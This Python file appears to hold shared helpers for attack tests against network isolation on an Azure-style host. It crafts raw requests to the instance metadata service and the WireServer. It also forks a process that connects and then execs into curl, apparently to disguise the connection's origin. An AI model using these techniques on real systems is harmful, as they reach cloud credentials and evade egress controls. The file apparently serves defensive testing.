# What attacks share; stands in front of each of them.
import array, ctypes, errno, fcntl, json, os, select, socket, struct, subprocess, sys, time

IMDS, WIRESERVER, LISTENER = ('169.254.169.254', 80), ('168.63.129.16', 80), ('127.0.0.1', 3080)
libc = ctypes.CDLL(None, use_errno=True)

def request(who, address=IMDS):
    target = '/machine?comp=goalstate&who=' if address == WIRESERVER else '/metadata/instance?api-version=2021-02-01&who='
    lines = ['GET ' + target + who + ' HTTP/1.1', 'Host: x', 'Metadata: true', 'x-ms-version: 2012-11-30']
    return '\r\n'.join(lines + ['Connection: close', '', '']).encode()

def status(sock):
    'The status of the answer: 0 when the connection ended without one.'
    answer = b''
    sock.settimeout(20)
    try:
        while chunk := sock.recv(65536):
            answer += chunk
    except OSError:
        pass
    return int(answer.split(b' ')[1]) if answer.startswith(b'HTTP/1.1 ') else 0

def ask(sock, who, address=IMDS):
    sock.sendall(request(who, address))
    return status(sock)

def bound(address, port=0, **kind):
    sock = socket.socket(**kind)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind((address, port))
    return sock

def tell(**facts):
    print(json.dumps(facts), flush=True)

def proceed():
    'Waits until the stage says so.'
    sys.stdin.readline()

def attempt(action):
    'What the action gives, or the name of its error.'
    try:
        return action()
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))

def turn_into(mine, who, path, before=':'):
    """Starts `mine`, a copy of python that connects and asks, runs the shell command `before` and becomes the curl at `path`,
    which waits. Gives its pid and the socket when it has."""
    sock = socket.socket()
    sock.set_inheritable(True)
    into, _ = os.pipe()
    os.set_inheritable(into, True)
    becoming = f'{before} && exec {path} --config -'
    source = f"""
import os, socket
sock = socket.socket(fileno={sock.fileno()})
sock.connect({IMDS})
sock.sendall({request(who)!r})
os.dup2({into}, 0)
os.execv('/bin/sh', ['sh', '-c', {becoming!r}])
"""
    child = os.fork()
    if child == 0:
        os.execv(mine, ['python3', '-c', source])
    end = time.time() + 60
    while open(f'/proc/{child}/cmdline').read() != f'{path}\0--config\0-\0':
        assert time.time() < end
        time.sleep(0.01)
    return child, sock
